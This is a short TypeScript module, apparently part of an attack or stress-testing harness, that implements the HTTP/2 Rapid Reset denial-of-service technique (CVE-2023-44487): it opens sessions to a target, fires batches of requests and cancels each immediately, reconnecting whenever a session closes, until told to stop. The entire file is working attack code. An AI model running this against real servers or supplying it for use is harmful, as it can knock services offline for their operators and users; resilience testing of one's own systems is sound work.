import { constants } from "node:http2";
import { setImmediate } from "node:timers/promises";
import { type Attack, openSession } from "../attack.ts";

/** Requests that are reset as soon as they are sent (CVE-2023-44487), on a new connection when one is closed. */
export const rapidReset: Attack = async (target, signal) => {
  let reset = 0;
  let connections = 0;
  while (!signal.aborted) {
    const session = openSession(target);
    connections++;
    while (!signal.aborted && !session.destroyed && !session.closed) {
      for (let n = 0; n < 100 && !session.destroyed && !session.closed; n++) {
        const stream = session.request({ ":path": "/v1/products" });
        stream.on("error", () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        reset++;
      }
      await setImmediate();
    }
    session.destroy();
  }
  return `${reset} requests reset, on ${connections} connections`;
};
